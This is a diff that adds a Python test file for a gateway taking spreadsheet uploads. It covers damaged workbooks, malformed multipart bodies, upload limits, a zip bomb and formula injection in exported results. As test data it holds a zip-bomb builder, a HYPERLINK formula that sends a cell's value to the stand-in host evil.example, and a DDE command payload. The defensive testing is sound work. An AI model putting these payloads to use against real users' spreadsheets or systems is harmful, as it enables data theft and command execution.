@@ -1,0 +1,278 @@
+"""Hostile spreadsheets and multipart bodies: damaged workbooks, zip bombs, oversized uploads,
+formula injection in the export, and parsing kept off the event loop.
+"""
+
+from __future__ import annotations
+
+import io
+import json
+import threading
+import zipfile
+from collections.abc import Callable
+from typing import Any
+
+import aiohttp
+import pytest
+from openpyxl import Workbook, load_workbook
+
+from gateway.core.errors import PayloadTooLarge, ValidationFailed
+from gateway.http import spreadsheets, uploads
+from mocks.population import sample_ids
+from tests.conftest import CASE, Gateway, batch_body
+from tests.integration.api.hostile import (
+    SOME_UUID,
+    UNREADABLE,
+    GatewayFactory,
+    problem_of,
+    stored_batches,
+)
+
+# ---------------------------------------------------------------- spreadsheets
+
+
+def workbook(rows: list[list[Any]], header: list[str] | None = None) -> bytes:
+    book = Workbook()
+    sheet = book.active
+    sheet.append(header or ["姓名", "身份证号"])
+    for row in rows:
+        sheet.append(row)
+    out = io.BytesIO()
+    book.save(out)
+    return out.getvalue()
+
+
+def rezip(data: bytes, change: Callable[[str, bytes], bytes | None]) -> bytes:
+    """The same workbook with each part passed through ``change`` (None drops the part)."""
+    out = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w") as target:
+        for info in source.infolist():
+            content = change(info.filename, source.read(info))
+            if content is not None:
+                target.writestr(info, content)
+    return out.getvalue()
+
+
+def people(n: int, seed: int = 5) -> list[list[Any]]:
+    return [[name, id_number] for name, id_number in sample_ids(n, seed=seed)]
+
+
+GOOD_BOOK = workbook(people(3))
+SHEET = "xl/worksheets/sheet1.xml"
+
+
+def _cut(name: str, part: bytes, which: str) -> bytes | None:
+    if name != which:
+        return part
+    return part[: len(part) // 2]
+
+
+DAMAGED = {
+    "truncated sheet": rezip(GOOD_BOOK, lambda n, p: _cut(n, p, SHEET)),
+    "broken workbook.xml": rezip(GOOD_BOOK, lambda n, p: _cut(n, p, "xl/workbook.xml")),
+    "broken styles.xml": rezip(GOOD_BOOK, lambda n, p: _cut(n, p, "xl/styles.xml")),
+    "no sheet part": rezip(GOOD_BOOK, lambda n, p: None if n == SHEET else p),
+    "sheet not XML": rezip(GOOD_BOOK, lambda n, p: b"\x00\x01garbage" if n == SHEET else p),
+    "huge dimension": rezip(
+        GOOD_BOOK,
+        lambda n, p: (
+            p.replace(b'<dimension ref="A1:B4"', b'<dimension ref="A1:ZZZZZ9"') if n == SHEET else p
+        ),
+    ),
+    "bad number": rezip(
+        GOOD_BOOK,
+        lambda n, p: (
+            p.replace(b"<sheetData>", b'<sheetData><row r="9"><c r="A9"><v>x</v></c></row>')
+            if n == SHEET
+            else p
+        ),
+    ),
+    "not a zip": b"PK\x03\x04 not really",
+}
+
+
+def upload_form(data: bytes, **fields: str) -> aiohttp.FormData:
+    form = aiohttp.FormData()
+    form.add_field("case_number", fields.get("case_number", CASE))
+    form.add_field("reason", fields.get("reason", "批量查询"))
+    form.add_field("file", data, filename="debtors.xlsx")
+    return form
+
+
+@pytest.mark.parametrize("damage", sorted(DAMAGED))
+async def test_a_damaged_workbook_is_422_naming_the_file(api: Gateway, damage: str) -> None:
+    response = await api.client.post(
+        "/v1/batches/upload", data=upload_form(DAMAGED[damage]), headers=await api.headers()
+    )
+    assert response.status == 422, await response.text()
+    assert problem_of(await response.json()) == [(None, "file", UNREADABLE)]
+    assert await stored_batches(api) == 0
+
+
+def multipart(part_headers: bytes, content: bytes = b"x") -> bytes:
+    return (
+        b"--B\r\n" + part_headers + b"\r\n\r\n" + content + b"\r\n"
+        b'--B\r\nContent-Disposition: form-data; name="reason"\r\n\r\nr\r\n--B--\r\n'
+    )
+
+
+NAME = b'Content-Disposition: form-data; name="case_number"'
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        multipart(NAME + b"\r\nContent-Type: text/plain; charset=foo"),
+        multipart(NAME + b"\r\nContent-Transfer-Encoding: foo"),
+        multipart(NAME + b"\r\n\x00\x01garbage without a colon"),
+        multipart(b'Content-Disposition: form-data; name="case_number\r\n: \r\n'),
+        multipart(NAME + b"\r\nContent-Type: text/plain; charset=utf-8", b"\xff\xfe"),
+        b"--B\r\n" + NAME + b"\r\n\r\nnever closed",
+    ],
+)
+async def test_an_unreadable_multipart_body_is_400(api: Gateway, body: bytes) -> None:
+    headers = {**await api.headers(), "Content-Type": "multipart/form-data; boundary=B"}
+    response = await api.client.post("/v1/batches/upload", data=body, headers=headers)
+    assert 400 <= response.status < 500, await response.text()
+    assert (await response.json())["error"]["code"]
+    assert await stored_batches(api) == 0
+
+
+def test_reading_stops_after_one_row_more_than_a_batch_may_hold() -> None:
+    with pytest.raises(PayloadTooLarge) as caught:
+        spreadsheets.read_subjects(workbook(people(50)), max_subjects=3)
+    assert caught.value.details == {"field": "subjects", "limit": 3}
+    assert len(spreadsheets.read_subjects(workbook(people(3)), max_subjects=3).subjects) == 3
+
+
+async def test_an_upload_over_the_subject_limit_is_413(gateway_factory: GatewayFactory) -> None:
+    gateway = await gateway_factory(dispatch=False, max_subjects=3)
+    response = await gateway.client.post(
+        "/v1/batches/upload",
+        data=upload_form(workbook(people(10))),
+        headers=await gateway.headers(),
+    )
+    assert response.status == 413, await response.text()
+    error = (await response.json())["error"]
+    assert (error["field"], error["limit"]) == ("subjects", 3)
+
+
+def zip_bomb(unpacked: int) -> bytes:
+    """A valid workbook whose sheet part unpacks to ``unpacked`` bytes (a comment of spaces)."""
+
+    def inflate(name: str, part: bytes) -> bytes:
+        if name != SHEET:
+            return part
+        head, _, tail = part.partition(b"<sheetData>")
+        return head + b"<!--" + b" " * unpacked + b"--><sheetData>" + tail
+
+    return rezip(GOOD_BOOK, inflate)
+
+
+async def test_a_zip_bomb_is_refused_before_it_is_parsed(gateway_factory: GatewayFactory) -> None:
+    gateway = await gateway_factory(dispatch=False, max_body_bytes=100_000)
+    bomb = zip_bomb(3_000_000)  # 30 times the body limit once unpacked
+    assert len(bomb) < 100_000
+    response = await gateway.client.post(
+        "/v1/batches/upload", data=upload_form(bomb), headers=await gateway.headers()
+    )
+    assert response.status == 413, await response.text()
+    assert (await response.json())["error"]["field"] == "file"
+    # the same content within the limit is read
+    small = zip_bomb(500_000)
+    response = await gateway.client.post(
+        "/v1/batches/upload", data=upload_form(small), headers=await gateway.headers()
+    )
+    assert response.status == 202, await response.text()
+
+
+def _record_thread(
+    monkeypatch: pytest.MonkeyPatch, module: Any, name: str, seen: list[Any]
+) -> None:
+    original = getattr(module, name)
+
+    def recorded(*args: Any, **kwargs: Any) -> Any:
+        seen.append((threading.get_ident(), args))
+        return original(*args, **kwargs)
+
+    monkeypatch.setattr(module, name, recorded)
+
+
+async def test_workbooks_are_read_and_written_off_the_event_loop(
+    gateway: Gateway, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    loop_thread = threading.get_ident()
+    parsed: list[Any] = []
+    written: list[Any] = []
+    _record_thread(monkeypatch, spreadsheets, "load_workbook", parsed)
+    _record_thread(monkeypatch, uploads, "write_results", written)
+    response = await gateway.client.post(
+        "/v1/batches/upload", data=upload_form(GOOD_BOOK), headers=await gateway.headers()
+    )
+    assert response.status == 202, await response.text()
+    batch = await response.json()
+    await gateway.wait_finished(batch["id"])
+    export = await gateway.client.get(
+        f"/v1/batches/{batch['id']}/results.xlsx", headers=await gateway.headers()
+    )
+    assert export.status == 200
+    assert [thread for thread, _ in parsed] != [] and loop_thread not in {t for t, _ in parsed}
+    assert len(written) == 1 and written[0][0] != loop_thread
+    # the photos' base64 was dropped as each page was read, not only when writing
+    _batch, items = written[0][1]
+    household = [i for i in items if i["agency"] == "household" and i["status"] == "found"]
+    assert household and all("photo" in i["data"] for i in household)
+    assert "data_base64" not in json.dumps(items)
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "+1+1",
+    "-2+3",
+    "@SUM(1,2)",
+    "=1+1",
+]
+
+
+async def test_the_export_holds_no_formula_whatever_the_names(gateway: Gateway) -> None:
+    ids = [i for _, i in sample_ids(len(FORMULAS), seed=41)]
+    body = batch_body(list(zip(FORMULAS, ids, strict=True)), agencies=["household", "vehicle"])
+    batch = await gateway.submit(body)
+    await gateway.wait_finished(batch["id"])
+    export = await gateway.client.get(
+        f"/v1/batches/{batch['id']}/results.xlsx", headers=await gateway.headers()
+    )
+    assert export.status == 200
+    data = await export.read()
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        assert b"<f>" not in archive.read(SHEET)
+    sheet = load_workbook(io.BytesIO(data)).active
+    cells = [cell for row in sheet.iter_rows() for cell in row]
+    assert [c.coordinate for c in cells if c.data_type == "f"] == []
+    names = {c.value for c in cells if c.column == 2}
+    assert set(FORMULAS) <= names  # kept as the text the officer typed
+
+
+def test_control_characters_from_an_agency_do_not_break_the_export() -> None:
+    item = {
+        "subject": {"row": 0, "name": "张三", "id_number": "X"},
+        "agency": "household",
+        "status": "found",
+        "data": {"sex": "男\x01", "birth_date": "1970-01-01", "address": "=cmd|'/c calc'!A1"},
+        "error": None,
+        "attempts": 1,
+        "completed_at": "2024-01-01T00:00:00+00:00",
+    }
+    batch = {"case_number": CASE, "id": SOME_UUID, "status": "done"}
+    data = spreadsheets.write_results(batch, [item])
+    sheet = load_workbook(io.BytesIO(data)).active
+    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
+
+
+# ---------------------------------------------------------------- unit level
+
+
+def test_damage_found_while_rows_are_read_is_the_same_422() -> None:
+    """openpyxl parses a worksheet lazily: a cut-off part is found only while rows are read."""
+    with pytest.raises(ValidationFailed) as caught:
+        spreadsheets.read_subjects(DAMAGED["truncated sheet"])
+    assert caught.value.problems[0]["problem"] == UNREADABLE
